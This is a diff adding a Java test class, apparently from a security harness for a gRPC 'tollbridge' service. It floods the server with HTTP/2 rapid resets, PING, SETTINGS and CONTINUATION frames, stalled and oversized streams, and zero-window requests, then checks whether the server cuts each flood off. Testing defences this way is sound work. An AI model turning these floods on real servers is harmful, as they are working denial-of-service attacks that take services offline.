@@ -1,0 +1,203 @@
+import java.io.IOException;
+import java.nio.ByteBuffer;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.List;
+import java.util.Map;
+
+/** Attacks by frames of HTTP/2. */
+final class Floods {
+  private static final String STREAM_LEGS = "tollbridge.v1.LegRatingService/StreamLegs";
+  private static final String IMPORT = "tollbridge.v1.TariffService/ImportRateDeck";
+  private static final String LIST = "tollbridge.v1.TariffService/ListRates";
+  private static final int LISTS = 300;
+  private static final Duration FLOOD = Duration.ofSeconds(3);
+  private static final Duration LIFE = Duration.ofSeconds(20);
+  private static final int MOST_FRAMES = 300_000;
+  private static final int BATCH = 100;
+  private static final byte[] NOTHING = {};
+
+  private Floods() {}
+
+  /** Sends frames. */
+  private interface Sender {
+    void send(Http2 connection, int number) throws IOException;
+  }
+
+  /** Sends frames until the time is over or the connection is closed; returns how many. */
+  private static int flood(Http2 connection, Sender sender) {
+    long endNanos = System.nanoTime() + FLOOD.toNanos();
+    int sent = 0;
+    try {
+      while (sent < MOST_FRAMES && System.nanoTime() < endNanos) {
+        for (int i = 0; i < BATCH; i++) {
+          sender.send(connection, sent++);
+        }
+        connection.flush();
+      }
+    } catch (IOException closed) {
+      // That is what the server should do.
+    }
+    return sent;
+  }
+
+  /** What became of a flood that the server must cut off. */
+  private static String cut(Http2 connection, int sent, String what) throws InterruptedException {
+    if (!connection.endsWithin(Duration.ofSeconds(5))) {
+      throw new Attack.Undefended(sent + " " + what + " sent, and the connection is still open");
+    }
+    return sent + " " + what + " sent before the connection was closed";
+  }
+
+  private static String survived(Http2 connection, int sent, String what) throws InterruptedException {
+    return sent + " " + what + (connection.endsWithin(Duration.ofMillis(200)) ? ", closed by the server" : ", still open");
+  }
+
+  static String resets(Target target) throws Exception {
+    byte[] headers = Http2.headers(STREAM_LEGS, Map.of());
+    byte[] cancel = {0, 0, 0, 8};
+    int sent = 0;
+    for (int connections = 0; connections < 3; connections++) {
+      try (Http2 connection = Http2.open(target, LIFE)) {
+        int frames = flood(connection, (to, number) -> {
+          int stream = 2 * number + 1;
+          to.frame(Http2.HEADERS, Http2.END_HEADERS, stream, headers);
+          to.frame(Http2.RST_STREAM, 0, stream, cancel);
+        });
+        cut(connection, frames, "resets");
+        sent += frames;
+      }
+    }
+    return sent + " resets on 3 connections before each was closed";
+  }
+
+  static String settings(Target target) throws Exception {
+    try (Http2 connection = Http2.open(target, LIFE)) {
+      byte[] setting = Http2.setting(1, 4096);
+      return survived(connection, flood(connection, (to, _) -> to.frame(Http2.SETTINGS, 0, 0, setting)), "SETTINGS");
+    }
+  }
+
+  static String pings(Target target) throws Exception {
+    try (Http2 connection = Http2.open(target, LIFE)) {
+      return cut(connection, flood(connection, (to, _) -> to.frame(Http2.PING, 0, 0, new byte[8])), "PING");
+    }
+  }
+
+  static String unreadPings(Target target) throws Exception {
+    Http2 connection = target.hold(Http2.deaf(target, FLOOD, 65_535));
+    int sent = flood(connection, (to, _) -> to.frame(Http2.PING, 0, 0, new byte[8]));
+    return sent + " PING";
+  }
+
+  static String continuations(Target target) throws Exception {
+    try (Http2 connection = Http2.open(target, LIFE)) {
+      connection.frame(Http2.HEADERS, 0, 1, Http2.headers(STREAM_LEGS, Map.of()));
+      byte[] header = {0, 1, 'a', 1, 'b'};
+      return cut(connection, flood(connection, (to, _) -> to.frame(Http2.CONTINUATION, 0, 1, header)), "CONTINUATION");
+    }
+  }
+
+  static String emptyData(Target target) throws Exception {
+    try (Http2 connection = Http2.open(target, LIFE)) {
+      connection.call(1, STREAM_LEGS, Http2.END_HEADERS);
+      return survived(connection, flood(connection, (to, _) -> to.frame(Http2.DATA, 0, 1, NOTHING)), "empty DATA");
+    }
+  }
+
+  /** Calls that wait for a first message; as many as a connection may have. */
+  static String silentCalls(Target target) throws Exception {
+    for (int connections = 0; connections < 20; connections++) {
+      Http2 connection = target.hold(Http2.open(target, Duration.ofMinutes(2)));
+      for (int call = 0; call < 1_000; call++) {
+        connection.call(2 * call + 1, STREAM_LEGS, Http2.END_HEADERS);
+      }
+      connection.flush();
+    }
+    return "20,000 calls on 20 connections";
+  }
+
+  /** Messages that are announced with 4 MB, and sent but for their last byte. */
+  static String unfinished(Target target) throws Exception {
+    int message = 4_000_000;
+    int streams = 60;
+    List<Http2> connections = new ArrayList<>();
+    for (int i = 0; i < 5; i++) {
+      Http2 connection = target.hold(Http2.open(target, Duration.ofSeconds(30)));
+      connections.add(connection);
+      for (int call = 0; call < streams; call++) {
+        connection.call(2 * call + 1, IMPORT, Http2.END_HEADERS);
+        connection.prefix(2 * call + 1, message);
+      }
+      connection.flush();
+    }
+    long sent = 0;
+    long endNanos = System.nanoTime() + 2 * FLOOD.toNanos();
+    int[] left = new int[connections.size() * streams];
+    Arrays.fill(left, message - 1);
+    while (System.nanoTime() < endNanos) {
+      for (int i = 0; i < left.length; i++) {
+        sent += more(connections.get(i / streams), i % streams, left, i);
+      }
+      connections.getFirst().awaitFrame(Duration.ofMillis(5));
+    }
+    long cut = 0;
+    for (Http2 connection : connections) {
+      cut += connection.arrived(Http2.RST_STREAM) + connection.arrived(Http2.HEADERS);
+    }
+    return sent / 1_000_000 + " of 1,200 MB of 300 messages, " + cut + " calls ended by the server";
+  }
+
+  private static int more(Http2 connection, int call, int[] left, int i) {
+    try {
+      int sent = connection.fill(2 * call + 1, Math.min(left[i], 262_144));
+      left[i] -= sent;
+      return sent;
+    } catch (IOException closed) {
+      return 0;
+    }
+  }
+
+  static String oversize(Target target) throws Exception {
+    try (Http2 connection = Http2.open(target, LIFE)) {
+      for (int call = 0; call < 100; call++) {
+        connection.call(2 * call + 1, call % 2 == 0 ? STREAM_LEGS : IMPORT, Http2.END_HEADERS);
+        connection.prefix(2 * call + 1, Integer.MAX_VALUE);
+        connection.fill(2 * call + 1, 16_384);
+      }
+      connection.flush();
+      long endNanos = System.nanoTime() + FLOOD.toNanos();
+      int refused = 0;
+      while (refused < 100 && System.nanoTime() < endNanos) {
+        connection.awaitFrame(Duration.ofMillis(50));
+        refused = connection.arrived(Http2.HEADERS);
+      }
+      if (refused < 100) {
+        throw new Attack.Undefended("only " + refused + " of 100 messages of 2 GiB were refused");
+      }
+      return "100 messages of 2 GiB refused";
+    }
+  }
+
+  /** Asks for long lists over connections whose windows are closed, so that nothing can be sent. */
+  static String unreadLists(Target target) throws Exception {
+    byte[] request = Calls.longList(target);
+    var message = ByteBuffer.allocate(Http2.PREFIX_BYTES + request.length).put((byte) 0).putInt(request.length)
+        .put(request).array();
+    int closed = 0;
+    for (int i = 0; i < 10; i++) {
+      Http2 connection = target.hold(Http2.deaf(target, Duration.ofMinutes(2), 0));
+      try {
+        for (int call = 0; call < LISTS; call++) {
+          connection.call(2 * call + 1, LIST, Http2.END_HEADERS);
+          connection.frame(Http2.DATA, Http2.END_STREAM, 2 * call + 1, message);
+        }
+        connection.flush();
+      } catch (IOException e) {
+        closed++;
+      }
+    }
+    return 10 * LISTS + " lists on 10 connections, " + closed + " closed";
+  }
+}
